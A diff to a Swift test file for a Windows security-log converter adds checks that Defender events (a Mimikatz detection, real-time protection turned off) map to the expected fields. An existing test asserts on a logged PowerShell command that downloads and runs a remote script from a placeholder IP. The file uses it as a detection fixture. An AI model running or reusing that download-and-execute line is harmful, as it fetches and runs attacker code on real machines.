@@ -8,7 +8,7 @@ final class WindowsTests: XCTestCase {
     let expected = packageRoot.appendingPathComponent("samples/windows/expected")
 
     func testConvertMatchesGoldenAndSchema() throws {
-        let golden = try assertConvertMatchesGolden("windows", summary: "records read 27 = events written 25 + duplicates skipped 1 + rejected 1")
+        let golden = try assertConvertMatchesGolden("windows", summary: "records read 29 = events written 27 + duplicates skipped 1 + rejected 1")
         try assertValidEvents(golden)
     }
 
@@ -161,6 +161,16 @@ final class WindowsTests: XCTestCase {
         XCTAssertEqual(((e["4104"]!["winlog"] as! [String: Any])["event_data"] as! [String: Any])["ScriptBlockText"] as? String,
                        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")
         XCTAssertEqual((e["4105"]!["event"] as! [String: Any])["type"] as? [String], ["start"])
+        // Defender: the file detected (its first resource, without `file:_`), the process that
+        // touched it and the user; real-time protection turned off.
+        let detected = e["1116"]!
+        XCTAssertEqual(action("1116"), "malware-detected")
+        XCTAssertEqual((detected["event"] as! [String: Any])["category"] as? [String], ["malware", "intrusion_detection"])
+        XCTAssertEqual((detected["file"] as! [String: Any])["path"] as? String, "C:\\Users\\alice\\Downloads\\mimikatz_trunk\\x64\\mimikatz.exe")
+        XCTAssertEqual((detected["process"] as! [String: Any])["name"] as? String, "explorer.exe")
+        XCTAssertEqual(detected["user"] as? [String: String], ["name": "alice", "domain": "CORP"])
+        XCTAssertEqual(((detected["winlog"] as! [String: Any])["event_data"] as! [String: Any])["Threat Name"] as? String, "HackTool:Win32/Mimikatz.D")
+        XCTAssertEqual(action("5001"), "realtime-protection-disabled")
     }
 
     /// Every category and type the event-id tables give is one the schema allows.
